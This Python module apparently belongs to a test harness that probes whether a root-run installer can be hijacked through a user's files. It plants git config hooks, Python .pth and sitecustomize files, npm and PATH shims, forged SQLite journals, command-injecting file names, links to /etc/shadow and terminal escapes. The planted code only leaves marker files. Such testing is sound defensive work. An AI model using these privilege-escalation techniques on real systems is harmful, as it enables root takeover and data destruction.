"""Things that lie in the user's folders and wait for root to open, follow, parse or run them."""
import glob
import os
import shutil
import socket
import sqlite3
import struct
import sys
import time

from common import MARK, Attempt, quietly, write
from swaps import HERMES, HOME

EVIL = HOME + "/.evil"
RAN = EVIL + "/ran"

# Runs as anybody; as root it leaves a mark that only root can leave. What it stands for is run then.
SHIM = """#!/bin/sh
# PLANTED-BY-AN-ATTACKER
if [ "$(/usr/bin/id -u)" = 0 ]; then echo "$0 $*" >/root/pwned-%(name)s; else echo %(name)s >>%(ran)s 2>/dev/null; fi
%(then)s
"""

# The same for Python, wherever it is imported.
MODULE = """# PLANTED-BY-AN-ATTACKER
import os
if os.getuid() == 0: open("/root/pwned-%(name)s", "w").close()
else:
    try: open("%(ran)s", "a").write("%(name)s\\n")
    except OSError: pass
"""


def shim(path, name, then="exit 0"):
    write(path, SHIM % {"name": name, "ran": RAN, "then": then}, 0o755)


class Planted(Attempt):
    """Placed once; each use of it by anybody is a try."""

    pause = 0.5
    name = ""

    def begin(self):
        os.makedirs(EVIL, exist_ok=True)
        os.chmod(EVIL, 0o755)
        self.used = self.uses()
        self.plant()
        self.tried()

    def plant(self):
        pass

    def uses(self):
        try:
            with open(RAN, encoding="utf-8", errors="replace") as file:
                return sum(line.startswith(self.name) for line in file)
        except OSError:
            return 0

    def turn(self):
        now = self.uses()
        if now > self.used:
            self.tried(now - self.used)
            self.used = now


class GitConfig(Planted):
    name = "git"

    def plant(self):
        for one in ("fsmonitor", "hook", "filter", "ssh", "pager", "alias", "diff", "credential", "editor"):
            shim("%s/git-%s" % (EVIL, one), "git-" + one, {"fsmonitor": "exit 1", "filter": "exec cat"}.get(one, "exit 0"))
        for hook in ("post-checkout", "post-merge", "pre-commit", "reference-transaction", "post-rewrite"):
            shim("%s/hooks/%s" % (EVIL, hook), "git-hook")
        config = ("[core]\n\tfsmonitor = {0}/git-fsmonitor\n\thooksPath = {0}/hooks\n\tsshCommand = {0}/git-ssh\n\tpager = {0}/git-pager\n\teditor = {0}/git-editor\n"
                  "[filter \"evil\"]\n\tclean = {0}/git-filter\n\tsmudge = {0}/git-filter\n[alias]\n\tstatus = !{0}/git-alias\n\trev-parse = !{0}/git-alias\n"
                  "[diff]\n\texternal = {0}/git-diff\n[pager]\n\tstatus = {0}/git-pager\n").format(EVIL)
        self.append(HOME + "/.gitconfig", config)
        checkout = HERMES + "/hermes-agent/.git"
        if os.path.isdir(checkout):
            self.append(checkout + "/config", config)
            write(checkout + "/info/attributes", "pyproject.toml filter=evil\n")
            for hook in ("post-checkout", "post-merge", "reference-transaction"):
                shim("%s/hooks/%s" % (checkout, hook), "git-hook")

    def append(self, path, config):
        text = open(path, encoding="utf-8").read() if os.path.exists(path) else ""
        if "git-fsmonitor" not in text:
            write(path, text + "\n" + config)


class PythonStartup(Planted):
    name = "python"

    def plant(self):
        line = 'import os; open("/root/pwned-python-pth", "w").close() if os.getuid() == 0 else open("%s", "a").write("python-pth\\n")\n' % RAN
        for packages in glob.glob(HERMES + "/hermes-agent/*/lib/python3*/site-packages") + [HOME + "/.local/lib/python3.%d/site-packages" % sys.version_info[1]]:
            write(packages + "/zz-attacker.pth", line)
            for module in ("sitecustomize", "usercustomize"):
                write("%s/%s.py" % (packages, module), MODULE % {"name": "python-" + module, "ran": RAN})
        # Python's own modules, for whoever starts it in one of these folders.
        for folder in (HOME, HERMES):
            for module in ("fcntl", "gzip", "tarfile", "hashlib"):
                write("%s/%s.py" % (folder, module), MODULE % {"name": "python-module", "ran": RAN} + AND_THEN.replace("NAME", module))


# Takes itself out of the way and is the real one then.
AND_THEN = """import importlib, sys
here = os.path.dirname(os.path.abspath(__file__))
before = list(sys.path)
sys.path[:] = [one for one in sys.path if os.path.abspath(one or ".") != here]
sys.modules.pop("NAME", None)
sys.modules["NAME"] = importlib.import_module("NAME")
sys.path[:] = before
"""


class Tools(Planted):
    """npm, pip and the search path."""
    name = "tool"
    shims = ("python3", "git", "tar", "cp", "chown", "systemctl", "docker", "pip", "npm", "npx", "node", "sqlite3", "getent", "id", "sh", "stat", "find", "cat", "timeout")

    def plant(self):
        shim(EVIL + "/shell", "tool-npm-shell", 'exec /bin/sh "$@"')
        write(EVIL + "/required.js", "if (process.getuid() === 0) require('fs').writeFileSync('/root/pwned-tool-npm-node', '');\n")
        write(HOME + "/.npmrc", "script-shell=%s/shell\nnode-options=--require %s/required.js\n" % (EVIL, EVIL))
        write(HOME + "/.config/pip/pip.conf", "[global]\ncache-dir = /root/pwned-tool-pip\n")
        for name in self.shims:
            real = next((one for one in ("/usr/local/bin/" + name, "/usr/bin/" + name, "/bin/" + name) if os.path.exists(one)), None)
            shim("%s/.local/bin/%s" % (HOME, name), "tool-path", "exec /bin/false" if real is None else 'exec %s "$@"' % real)


class NpxHere(Planted):
    """What npx prefers to what it would fetch, in the folder in which it is started."""
    name = "npx"

    def plant(self):
        shim(HOME + "/node_modules/.bin/otto-install", "npx-here")
        write(HOME + "/package.json", '{"name": "mine", "version": "1.0.0", "scripts": {"preinstall": "%s/npx-script"}}\n' % EVIL)
        shim(EVIL + "/npx-script", "npx-script")


def forge(database, victim, page=4096):
    """A journal as a crash leaves it, that names a file as the journal above it: whoever plays it back removes that file."""
    pages = max(1, os.path.getsize(database) // page)
    magic = bytes.fromhex("d9d505f920a163d7")
    name = victim.encode()
    head = magic + struct.pack(">IIIII", 0, 0x12345678, pages, 512, page)
    tail = struct.pack(">I", 0x40000000 // page + 1) + name + struct.pack(">II", len(name), sum(name)) + magic
    write(database + "-journal", head.ljust(512, b"\0") + tail)


class Journals(Attempt):
    """Beside databases of the attacker's own, again as soon as one was used up."""

    pause = 0.02
    victims = ("/etc/victim-journal", "/root/victim-journal", "/var/lib/victim-journal")

    def begin(self):
        self.databases = []
        for number, victim in enumerate(self.victims):
            path = "%s/%snotes%d.db" % (HERMES, "deep/er/" if number else "", number)
            os.makedirs(os.path.dirname(path), exist_ok=True)
            quietly(os.unlink, path + "-journal")
            database = sqlite3.connect(path)
            database.execute("CREATE TABLE IF NOT EXISTS note (text)")
            database.execute("INSERT INTO note VALUES ('mine')")
            database.commit()
            database.close()
            self.databases.append((path, victim))

    def turn(self):
        for path, victim in self.databases:
            if not os.path.exists(path + "-journal"):
                forge(path, victim)
                self.tried()

    def end(self):
        for path, _ in self.databases:
            for one in (path + "-journal", path):
                quietly(os.unlink, one)


class OddNames(Attempt):
    pause = 1
    names = (b"-rf", b"--privileged", b"--checkpoint-action=exec=sh", b"con", b"nul", b"a\nb", b"\x1b]0;PWNED\x07", b"\x1b[2J", b"\xc2\x9b31m", "\u202egnp.exe".encode(),
             "line\u2028break".encode(), b"\xff\xfe-not-utf8", b"$(touch /root/pwned-name)", b"`touch /root/pwned-name`", b"; touch /root/pwned-name;", b"'", b'"', b" ", b"*",
             b"x" * 255, b"..hidden", b"tab\there", b"%s%n", b"\\n", b".growing", b"manifest.json")

    def begin(self):
        self.folder = os.fsencode(HERMES + "/odd")
        os.makedirs(self.folder, exist_ok=True)
        for name in self.names:
            quietly(write, self.folder + b"/" + name, MARK)
            quietly(os.makedirs, os.fsencode(HERMES) + b"/skills/" + name)
            self.tried()

    def end(self):
        shutil.rmtree(self.folder, ignore_errors=True)
        for name in self.names:
            quietly(os.rmdir, os.fsencode(HERMES) + b"/skills/" + name)


class Pipes(Attempt):
    """Pipes, sockets, and links to devices, where files are looked for; nobody writes into them, and some never end."""
    pause = 1

    def begin(self):
        self.made = []
        for name in ("pipe", "cron/jobs.json", "memories/MEMORY.md", "logs/errors.log", "processes.json", "pipe.db"):
            self.place(HERMES + "/" + name, lambda path: os.mkfifo(path, 0o644))
        self.place(HERMES + "/socket", lambda path: socket.socket(socket.AF_UNIX).bind(path))
        for name, target in (("zero", "/dev/zero"), ("random.db", "/dev/urandom"), ("full", "/dev/full"), ("tty", "/dev/tty"), ("shadow", "/etc/shadow"), ("mem", "/proc/1/mem"),
                             ("logs/gateway.log.2", "/dev/zero"), ("logs/agent.log", "/root/sentinel-secret"), ("hooks/all", "/"), ("here", ".")):
            self.place(HERMES + "/" + name, lambda path, target=target: os.symlink(target, path))

    def place(self, path, make):
        os.makedirs(os.path.dirname(path), exist_ok=True)
        if os.path.lexists(path):
            if os.path.lexists(path + ".mine") or not os.path.isfile(path):
                return
            os.rename(path, path + ".mine")
        make(path)
        self.made.append(path)
        self.tried()

    def end(self):
        for path in self.made:
            quietly(os.unlink, path)
            if os.path.lexists(path + ".mine"):
                os.rename(path + ".mine", path)


class HardLinks(Attempt):
    """Another name for a file of root's, where root gives files to the user, copies them or reads them."""
    pause = 0.2
    names = ("sentinel", "sentinel.env", "logs/sentinel.log", "sessions/sentinel.json", "hermes-agent/sentinel.py", "config.yaml.bak")

    def turn(self):
        for name in self.names:
            for number, victim in enumerate(("/home/.victims/secret", "/etc/shadow")):
                path = "%s/%s%d" % (HERMES, name, number)
                if os.path.lexists(path) and self.tells(path):
                    continue
                if not os.path.lexists(path):
                    self.tried()
                    quietly(os.link, victim, path)

    def tells(self, path):
        found = quietly(read_all, path)
        if found is not None and b"SENTINEL" in found:
            self.effect("cleo reads a secret of root's at " + path)
        return True

    def end(self):
        self.turn()
        for name in self.names:
            for number in (0, 1):
                quietly(os.unlink, "%s/%s%d" % (HERMES, name, number))


def read_all(path):
    with open(path, "rb") as file:
        return file.read(1 << 16)


class Huge(Attempt):
    """A file of 1 TB without content, one of settings that does not end, and folders 700 deep."""
    pause = 1

    def begin(self):
        for name in ("huge.bin", "logs/huge.log", "sessions/huge.json"):
            path = "%s/%s" % (HERMES, name)
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "wb") as file:
                file.truncate(1 << 40)
            self.tried()
        start = os.getcwd()
        os.makedirs(HERMES + "/deep", exist_ok=True)
        os.chdir(HERMES + "/deep")
        for _ in range(700):
            quietly(os.mkdir, "d" * 20)
            os.chdir("d" * 20)
        write("./end", MARK)
        os.chdir(start)
        self.tried()

    def end(self):
        for name in ("huge.bin", "logs/huge.log", "sessions/huge.json"):
            quietly(os.unlink, "%s/%s" % (HERMES, name))
        os.system("rm -rf " + HERMES + "/deep")


class Escapes(Attempt):
    """Terminal escapes in what otto-install reads and tells: settings, the checkout's remote, logs, the name of a program that listens."""
    pause = 0.5
    words = "\x1b]0;PWNED\x07\x1b[2J\x1b]52;c;cHduZWQ=\x07\x9b31m\u202eothgir\u2028next\x7f"

    def begin(self):
        self.kept = {}
        self.change(HERMES + "/.env", lambda text: text.replace("API_SERVER_MODEL_NAME=", "API_SERVER_MODEL_NAME=" + self.words) + "\nTERMINAL_CWD=" + self.words + "\n")
        self.change(HERMES + "/config.yaml", lambda text: text + '\nattacker: "' + self.words.replace("\x1b", "\\e").replace("\x07", "\\a") + '"\nbroken: [' + self.words + "\n")
        self.change(HERMES + "/hermes-agent/.git/config", lambda text: text.replace("url = ", "url = https://" + self.words))
        self.tried(3)

    def change(self, path, how):
        with open(path, encoding="utf-8") as file:
            self.kept[path] = file.read()
        write(path, how(self.kept[path]), os.stat(path).st_mode & 0o777)

    def turn(self):
        line = "%s ERROR gateway: %s\n" % (time.strftime("%Y-%m-%d %H:%M:%S,000"), self.words)
        for name in ("gateway.log", "agent.log", "errors.log"):
            with open("%s/logs/%s" % (HERMES, name), "a", encoding="utf-8") as file:
                file.write(line)
        self.tried()

    def end(self):
        for path, text in self.kept.items():
            write(path, text, os.stat(path).st_mode & 0o777)
